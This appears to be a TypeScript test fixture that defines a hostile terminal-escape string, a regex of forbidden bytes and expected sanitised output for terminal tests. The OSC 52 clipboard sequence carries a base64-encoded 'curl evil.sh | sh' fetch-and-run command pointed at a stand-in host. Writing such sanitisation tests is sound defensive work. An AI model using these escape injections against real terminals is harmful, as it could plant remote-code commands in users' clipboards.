// One hostile string for the terminal tests of issue 13: every kind of byte that must never reach a
// terminal raw. OSC 0 retitles the window, OSC 52 fills the clipboard (tmux's paste buffer), CSI colours
// and blinks, U+009B is a one-byte CSI, U+202E reverses the text after it, U+200B is invisible.
export const HOSTILE = 'evil\u001B]0;PWNED\u0007\u001B]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007\u001B[31;5mred\u009B31m\u202Ereversed\u200Bhidden\u007Fdel\u0007bel';

/** A name-shaped hostile string (no spaces or slashes) for environment names, labels and job names. */
export const HOSTILE_NAME = HOSTILE;

/** Bytes that must never appear in output: ESC, BEL, the C1 block (as UTF-8 or raw), bidi and zero-width characters. */
export const FORBIDDEN = /[\u001B\u0007\u0080-\u009F\u202A-\u202E\u2066-\u2069\u200B-\u200F\u007F]/;

/** The escaped form the printable function shows for the payload's telling parts. */
export const SHOWN = ['\\x1b]0;PWNED\\x07', '\\x1b[31;5m', '\\u009b31m', '\\u202e', '\\u200b', '\\x7f'];
